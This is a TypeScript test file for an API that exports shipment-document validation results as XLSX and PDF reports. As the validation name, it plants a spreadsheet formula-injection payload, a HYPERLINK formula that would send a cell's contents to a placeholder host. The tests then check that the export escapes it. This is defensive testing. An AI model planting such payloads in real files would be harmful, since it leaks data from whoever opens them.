import type { LabelResult, ValidationResult } from '@vd/contract';
import { validationAudits, validations } from '@vd/db';
import { eq } from 'drizzle-orm';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeShipment } from '../../../../../packages/engine/src/fixtures/shipment.ts';
import { grantSlots, internalAuth, pdfText } from '../../../test/billing.ts';
import { seedUser } from '../../../test/factories.ts';
import { buildTestApp } from '../../../test/helper.ts';
import { plantedDifferences } from '../../../test/planted-shipment.ts';
import { type PublishedTemplate, readyValidation } from '../../../test/validation.ts';
import { runnableTemplate, runQueued } from '../../../test/validation-run.ts';
import { wibWallClock } from '../../services/wib-time.ts';

type Auth = Record<string, string>;
type Method = 'GET' | 'POST' | 'PUT' | 'DELETE';

const hostileName = '=HYPERLINK("http://x.invalid/?"&A1,"Klik")';
const reason = 'Berat bersih PEB termasuk kemasan dalam; disetujui pembeli';
const firstReason = 'Selisih timbangan, menunggu konfirmasi';
/** "21/11/2026 14.05 WIB". */
const wibTime = /\d{2}\/\d{2}\/\d{4} \d{2}\.\d{2} WIB/;

/** Image XObjects of a PDF (their dictionaries are not compressed by PDFKit). */
const imageCount = (pdf: Buffer) => pdf.toString('latin1').match(/\/Subtype \/Image/g)?.length ?? 0;

/**
 * GET validation/{id}/export: the XLSX read back cell by cell and the PDF report's text and images,
 * on a shipment with a difference within the tolerance, one accepted by a decision (an earlier one
 * withdrawn), a format-invalid container, a correction and a sign-off.
 */
describe('validation result exports (XLSX and PDF report)', () => {
  let t: Awaited<ReturnType<typeof buildTestApp>>;
  let owner: Awaited<ReturnType<typeof seedUser>>;
  let admin: Awaited<ReturnType<typeof seedUser>>;
  let member: Auth;
  let staff: Auth;
  let other: Auth;
  let template: PublishedTemplate;
  let id: string;
  let result: ValidationResult;
  const facts = makeShipment(3);

  const call = (method: Method, url: string, headers: Auth, payload?: object) =>
    t.app.inject({ method, url: `/api/v1/${url}`, headers, ...(payload && { payload }) });
  const ok = async (method: Method, url: string, headers: Auth, payload?: object, status = 200) => {
    const res = await call(method, url, headers, payload);
    expect(res.statusCode, `${method} ${url}: ${res.body}`).toBe(status);
    return res.json().data;
  };
  const labelOf = (r: ValidationResult, name: string): LabelResult =>
    r.labels.find((l) => l.label_name === name && l.row === 0)!;
  const download = async (format: string, headers: Auth = member) => {
    const res = await call('GET', `validation/${id}/export?format=${format}`, headers);
    expect(res.statusCode, res.body).toBe(200);
    return res;
  };

  beforeAll(async () => {
    t = await buildTestApp();
    owner = await seedUser(t.ctx.db, t.ctx.config);
    admin = await seedUser(t.ctx.db, t.ctx.config, { companyId: owner.companyId, role: 'admin' });
    member = (await seedUser(t.ctx.db, t.ctx.config, { companyId: owner.companyId, role: 'member' })).auth;
    staff = await internalAuth(t.ctx.db, t.ctx.config, owner.companyId);
    other = (await seedUser(t.ctx.db, t.ctx.config)).auth;
    template = await runnableTemplate(t, owner.auth);
    await grantSlots(t.ctx.db, owner.companyId, 1);
    const validation = await readyValidation(t, member, template, 3, await plantedDifferences(facts));
    id = validation.id;
    await ok('POST', `validation/${id}`, member, undefined, 202);
    await runQueued(t, member, id);
    await t.ctx.db.update(validations).set({ name: hostileName }).where(eq(validations.id, id));
    await t.ctx.db
      .update(validationAudits)
      .set({ aju_number: '04030012345620260105000123' })
      .where(eq(validationAudits.validation_id, id));

    // A decision withdrawn, then the standing one; a correction of the PEB's Incoterm.
    const first: ValidationResult = await ok('GET', `validation/${id}/result`, member);
    const net = labelOf(first, 'Berat Bersih');
    const body = (text: string) => ({
      document_label_id: net.document_label_id,
      label_name: 'Berat Bersih',
      row: 0,
      reason: text,
    });
    const withdrawn: ValidationResult = await ok(
      'POST',
      `validation/${id}/decision`,
      member,
      body(firstReason),
    );
    await ok(
      'DELETE',
      `validation/${id}/decision/${labelOf(withdrawn, 'Berat Bersih').decision!.id}`,
      member,
    );
    await ok('POST', `validation/${id}/decision`, member, body(reason));
    const incoterm = labelOf(first, 'Incoterm').readings.find((r) => r.document_type_code === 'PEB')!;
    result = await ok('PUT', `validation/${id}/reading/${incoterm.id}`, member, { text: 'FOB JAKARTA' });
  }, 240_000);
  afterAll(() => t.close());

  it('answers 404 for another company, any role of the company and internal staff may download', async () => {
    for (const format of ['xlsx', 'pdf']) {
      const res = await call('GET', `validation/${id}/export?format=${format}`, other);
      expect(res.statusCode).toBe(404);
      expect(res.json().message).toBe('Validasi tidak ditemukan.');
    }
    const xlsx = await download('xlsx', staff);
    expect(xlsx.headers['content-type']).toContain('spreadsheetml');
    expect(xlsx.headers['content-disposition']).toMatch(
      /^attachment; filename="hasil-validasi-[\w-]+\.xlsx"$/,
    );
    const pdf = await download('pdf', staff);
    expect(pdf.headers['content-type']).toBe('application/pdf');
    expect((await call('GET', `validation/${id}/export?format=csv`, member)).statusCode).toBe(400);
  });

  it('the PDF report says "Belum disetujui" before the sign-off', async () => {
    const text = await pdfText((await download('pdf')).rawPayload);
    expect(text).toContain('Belum disetujui');
    expect(text).not.toContain('Disetujui oleh');
  });

  it('writes the XLSX: labels x documents, the summary and every decision, read back cell by cell', async () => {
    await ok('POST', `validation/${id}/sign-off`, admin.auth);
    const detail = await ok('GET', `validation/document/${id}`, member);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download('xlsx')).rawPayload as unknown as ArrayBuffer);
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Label x Dokumen', 'Ringkasan', 'Keputusan']);
    for (const sheet of workbook.worksheets)
      sheet.eachRow((row) => row.eachCell((cell) => expect(cell.formula).toBeUndefined()));

    const labels = workbook.getWorksheet('Label x Dokumen')!;
    const headers = (labels.getRow(1).values as unknown[]).slice(1);
    expect(headers).toEqual([
      'Label',
      'Baris',
      'Dokumen',
      'Dokumen Acuan',
      'Nilai Tercetak',
      'Nilai Ternormalisasi',
      'Sama dengan Acuan',
      'Hasil',
      'Keyakinan',
      'Koreksi',
      'Keputusan',
      'Alasan',
      'Catatan Nilai',
    ]);
    const col = (name: string) => headers.indexOf(name) + 1;
    const lineOf = (label: string, documentType: string) => {
      const rows: ExcelJS.Row[] = [];
      labels.eachRow((row, n) => {
        if (n > 1 && row.getCell(1).value === label && row.getCell(col('Dokumen')).value === documentType)
          rows.push(row);
      });
      expect(rows, `${label} / ${documentType}`).toHaveLength(1);
      return rows[0]!;
    };
    // Every label row and document of the result has its line.
    const lines = result.labels.reduce((n, l) => n + Math.max(1, l.readings.length), 0);
    expect(labels.rowCount).toBe(lines + 1);

    const net = labelOf(result, 'Berat Bersih');
    for (const reading of net.readings) {
      const row = lineOf('Berat Bersih', reading.document_type_name);
      expect(row.getCell(col('Nilai Tercetak')).value).toBe(reading.text);
      expect(row.getCell(col('Nilai Ternormalisasi')).value).toBe(reading.display);
      expect(row.getCell(col('Hasil')).value).toBe('Tidak Sesuai');
      expect(row.getCell(col('Keyakinan')).value).toBe(reading.confidence);
      expect(row.getCell(col('Keyakinan')).numFmt).toBe('0%');
      expect(row.getCell(col('Alasan')).value).toBe(net.reason);
      expect(row.getCell(col('Baris')).value).toBeNull();
      const decision = String(row.getCell(col('Keputusan')).value);
      expect(decision).toMatch(
        new RegExp(`^Ditarik: ${firstReason} — Budi Santoso \\w+, ${wibTime.source}; ditarik `),
      );
      expect(decision).toContain(`\nDiterima: ${reason} — Budi Santoso`);
      expect(decision).toMatch(new RegExp(`${wibTime.source}$`));
    }
    const pebNet = lineOf('Berat Bersih', 'PEB');
    expect(pebNet.getCell(col('Dokumen Acuan')).value).toBe('Ya');

    const gross = labelOf(result, 'Berat Kotor');
    expect(lineOf('Berat Kotor', 'PEB').getCell(col('Hasil')).value).toBe('Sesuai dalam toleransi');
    expect(lineOf('Berat Kotor', 'PEB').getCell(col('Alasan')).value).toBe(gross.reason);
    const container = result.labels.find((l) => l.data_type === 'container' && l.row === 0)!;
    const blLine = lineOf(
      container.label_name,
      container.readings.find((r) => r.document_type_code === 'BL')!.document_type_name,
    );
    expect(blLine.getCell(col('Hasil')).value).toBe('Format tidak valid');
    expect(blLine.getCell(col('Nilai Ternormalisasi')).value).toBeNull();

    const incoterm = lineOf('Incoterm', 'PEB');
    expect(incoterm.getCell(col('Nilai Tercetak')).value).toBe('FOB JAKARTA');
    expect(incoterm.getCell(col('Hasil')).value).toBe('Sesuai');
    expect(String(incoterm.getCell(col('Koreksi')).value)).toMatch(
      new RegExp(`^Budi Santoso \\w+, ${wibTime.source}: "FOB" menjadi "FOB JAKARTA"$`),
    );

    const summary = workbook.getWorksheet('Ringkasan')!;
    const fact = (name: string) => {
      let found: ExcelJS.Cell | undefined;
      summary.eachRow((row) => {
        if (row.getCell(1).value === name) found = row.getCell(2);
      });
      expect(found, name).toBeDefined();
      return found!;
    };
    expect(fact('Nama Validasi').value).toBe(`'${hostileName}`);
    expect(fact('Nomor Aju').value).toBe('040300-123456-20260105-000123');
    expect(fact('Template').value).toBe('Ekspor Kopi - Buyer Jepang');
    expect(fact('Hasil Keseluruhan').value).toBe(
      `${{ match: 'Sesuai', mismatch: 'Tidak Sesuai', review: 'Perlu Diperiksa' }[result.summary.overall]} (1 perbedaan diterima)`,
    );
    expect(fact('Sesuai dalam toleransi').value).toBe(result.summary.within_tolerance);
    expect(fact('Format tidak valid').value).toBe(1);
    expect(fact('Perbedaan Diterima').value).toBe(1);
    expect(fact('Tidak Sesuai').value).toBe(0);
    expect((fact('Dijalankan (WIB)').value as Date).getTime()).toBe(
      wibWallClock(new Date(detail.executed_at)).getTime(),
    );
    expect(fact('Dijalankan (WIB)').numFmt).toBe('dd/mm/yyyy hh:mm "WIB"');
    expect(fact('Selesai (WIB)').numFmt).toContain('WIB');
    expect(fact('Disetujui Oleh').value).toBe(`${admin.user.first_name} ${admin.user.last_name}`);
    expect((fact('Disetujui Pada (WIB)').value as Date).getTime()).toBe(
      wibWallClock(new Date(detail.signed_off.at)).getTime(),
    );

    const decisions = workbook.getWorksheet('Keputusan')!;
    expect((decisions.getRow(1).values as unknown[]).slice(1)).toEqual([
      'Label',
      'Baris',
      'Alasan',
      'Diputuskan Oleh',
      'Waktu (WIB)',
      'Status',
      'Ditarik Oleh',
      'Waktu Ditarik (WIB)',
    ]);
    expect(decisions.rowCount).toBe(3);
    const [withdrawn, standing] = [decisions.getRow(2), decisions.getRow(3)];
    expect([withdrawn.getCell(3).value, withdrawn.getCell(6).value]).toEqual([firstReason, 'Ditarik']);
    expect(withdrawn.getCell(7).value).toMatch(/^Budi Santoso/);
    expect(withdrawn.getCell(8).value).toBeInstanceOf(Date);
    expect(withdrawn.getCell(8).numFmt).toBe('dd/mm/yyyy hh:mm "WIB"');
    expect([standing.getCell(1).value, standing.getCell(3).value, standing.getCell(6).value]).toEqual([
      'Berat Bersih',
      reason,
      'Berlaku',
    ]);
    expect(standing.getCell(5).value).toBeInstanceOf(Date);
    expect(standing.getCell(7).value).toBeNull();
  });

  it('renders the PDF report: sign-off, problems with their crops, decisions, matching labels', async () => {
    const pdf = (await download('pdf')).rawPayload;
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    const text = await pdfText(pdf);
    const signer = `${admin.user.first_name} ${admin.user.last_name}`;
    expect(text).toMatch(new RegExp(`Disetujui oleh ${signer} pada ${wibTime.source}`));
    expect(text).toContain('LAPORAN HASIL VALIDASI');
    expect(text).toContain(hostileName);
    expect(text).toContain('040300-123456-20260105-000123');
    expect(text).toMatch(new RegExp(`Dijalankan ${wibTime.source}`));
    expect(text).toContain('Tidak Sesuai · Diterima Berat Bersih');
    expect(text).toContain('Format tidak valid');
    expect(text).toContain(reason);
    expect(text).toContain(firstReason);
    expect(text).toContain('Label yang sesuai');
    expect(text).toContain('Sesuai dalam toleransi');
    // The crops of the problems' readings: the net weights (2) and the containers read (2).
    expect(imageCount(pdf)).toBeGreaterThanOrEqual(4);
  });
});
